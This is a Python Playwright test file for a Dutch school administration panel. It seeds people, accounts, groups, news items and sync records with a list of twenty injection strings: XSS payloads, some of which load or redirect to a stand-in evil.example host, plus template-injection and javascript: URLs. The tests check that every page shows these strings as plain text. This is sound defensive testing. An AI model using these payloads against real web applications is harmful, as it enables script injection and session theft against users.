"""Names from a school system, a form or a file are only ever text: twenty that would like to be more (R61, R64)."""

from datetime import UTC, datetime

import pytest
import sqlalchemy as sa
from playwright.sync_api import expect

from app.models import Group, Guardianship, Location, NewsItem, PersonKind, SyncMessage, SyncRun
from app.services.reach import recompute_reach
from tests.browser.panel_world import broken, open_panel, served

__all__ = ["open_panel", "served"]  # fixtures
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script src=https://evil.example/x.js></script>',
    "'><img src=https://evil.example/a.png>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<iframe src=https://evil.example/></iframe>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/b.css'</style>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>OK",
    "{{ 7*7 }}{% raw %}${alert(1)}",
    "javascript:alert(1)",
    "[x](javascript:alert(1)) ![x](https://evil.example/c.png)",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b>",
]
LISTS = {
    PersonKind.PUPIL: "leerlingen",
    PersonKind.GUARDIAN: "verzorgers",
    PersonKind.STAFF: "medewerkers",
    PersonKind.OTHER: "overige-betrokkenen",
}


@pytest.fixture
def hostile_school(session, make_person, make_account, administrator):
    """Somebody of each name, in turn of each kind, with an account; and groups, news and a file of each name."""
    place = session.scalar(sa.select(Location))
    own, moment = {"institution_id": place.institution_id}, datetime.now(UTC)
    people = []
    for n, text in enumerate(HOSTILE):
        kind = list(LISTS)[n % 4]
        words = {"first_name": text, "prefix": text[:32], "last_name": text, "number": text[:64], "email": text}
        person = make_person(kind, place if kind is PersonKind.PUPIL else None, hand_made=True, **words)
        people.append((kind, person.id, make_account(person, username=text).id))
        if kind is PersonKind.GUARDIAN:  # of the pupil before
            session.add(Guardianship(guardian_id=person.id, pupil_id=people[-2][1], relation=text, **own))
        session.add(Group(location_id=place.id, school_year=2026, name=text, sort_key=text, source_key=text, **own))
        session.add(NewsItem(title=text, body=text, published_at=moment, **own))
    lines = [
        {
            "kind": "pupil",
            "id": None,
            "number": text,
            "name": text,
            "what": "new",
            "fields": [["first_name", None, text]],
        }
        for text in HOSTILE
    ]
    more = {"trigger": "manual", "slot": "hostile", "created_at": moment, "started_at": moment, "changes": lines}
    run = SyncRun(source="edexml", status="preview", reason=HOSTILE[1], counts={}, **more, **own)
    session.add(run)
    session.flush()
    session.add_all(
        SyncMessage(
            run_id=run.id,
            severity="error",
            kind="group",
            key=text,
            code="duplicate-group",
            details={"group": text},
            **own,
        )
        for text in HOSTILE
    )
    place.name = HOSTILE[0]
    recompute_reach(session, place.institution_id)
    session.commit()
    return people, run.id


def test_no_name_does_anything_on_any_page_r61_r64(hostile_school, open_panel):
    people, run_id = hostile_school
    page = open_panel()
    lists = [f"/beheer/{name}/?page_size=100" for name in [*LISTS.values(), "accounts", "groepen", "vestigingen"]]
    runs = [f"/beheer/synchronisatie/{part}" for part in ("", f"{run_id}/")]
    for address in [*lists, *runs, "/", "/nieuws/"]:
        page.goto(address)
        assert broken(page) == [], address
    assert "alert(1)" in page.locator("main").inner_text()
    for (kind, person_id, account_id), text in zip(people, HOSTILE, strict=True):
        for address in (f"/beheer/{LISTS[kind]}/{person_id}/", f"/beheer/accounts/{account_id}/"):
            page.goto(address)
            assert text[:15] in page.locator("main").inner_text(), address
            if page.locator("a.btn-danger").count():  # the dialog that asks before deleting
                page.locator("a.btn-danger").click()
                expect(page.locator("dialog[open]")).to_be_visible()
            assert broken(page) == [], text


def test_no_name_does_anything_on_the_check_page_r61_r64(hostile_school, open_panel):
    page = open_panel()
    page.goto("/beheer/accounts/?page_size=100")
    page.check("[data-pick-all]")
    page.locator("button[value=reset]:visible").click()
    page.wait_for_url("**/opdracht/**")
    assert "alert(1)" in page.locator("main").inner_text()
    assert broken(page) == []
